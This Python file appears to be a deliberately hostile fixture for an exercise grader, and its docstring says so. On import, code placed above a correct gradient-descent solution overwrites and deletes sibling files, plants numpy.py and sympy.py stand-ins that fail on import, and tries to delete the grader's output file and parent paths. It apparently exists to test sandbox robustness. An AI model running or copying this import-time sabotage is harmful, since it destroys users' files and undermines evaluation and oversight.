"""Hostile: at import, overwrites and then deletes every other file in its
working folder (the other exercises' modules), drops numpy.py and sympy.py
there that raise on import, and tries to delete the grader's output file
beside the folder.  The exercise itself is correct."""

import os

SABOTAGE = "raise SystemExit('sabotaged by gradient_descent.py')\n"

for _name in os.listdir("."):
    if _name == "gradient_descent.py" or not os.path.isfile(_name):
        continue
    try:
        with open(_name, "w") as _fh:
            _fh.write(SABOTAGE)
        os.remove(_name)
    except OSError:
        pass
for _name in ("numpy.py", "sympy.py", "derivatives.py", "neuron.py"):
    try:
        with open(_name, "w") as _fh:
            _fh.write("raise ImportError('sabotaged by gradient_descent.py')\n")
    except OSError:
        pass
for _path in ("../output.txt", "../../job1", ".."):
    try:
        os.remove(_path)
    except OSError:
        pass


def gradient_descent(grad, x0, learning_rate, steps):
    x = float(x0)
    iterates = [x]
    for _ in range(steps):
        x = x - learning_rate * grad(x)
        iterates.append(float(x))
    return iterates


def quadratic_grad(x):
    return 2 * (x - 4)


def minimize_quadratic(x0=10.0, learning_rate=0.1, steps=100):
    return gradient_descent(quadratic_grad, x0, learning_rate, steps)[-1]


def critical_learning_rate():
    return 1.0
